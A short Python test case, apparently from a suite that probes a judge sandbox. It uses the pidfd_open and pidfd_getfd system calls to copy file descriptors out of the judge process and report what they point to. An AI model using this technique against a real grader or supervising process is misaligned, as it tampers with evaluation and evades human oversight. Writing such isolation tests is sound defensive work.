"""Fetches a copy of each descriptor of the judge.

shows: canary score
layers: syscalls user judge
"""
import os

import outside

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack():
    judge = outside.syscall(PIDFD_OPEN, outside.judge(), 0)
    for number in range(3, 20):
        try:
            mine = outside.syscall(PIDFD_GETFD, judge, number, 0)
        except OSError:
            continue
        return f"descriptor {number} of the judge is {os.readlink(f'/proc/self/fd/{mine}')}"
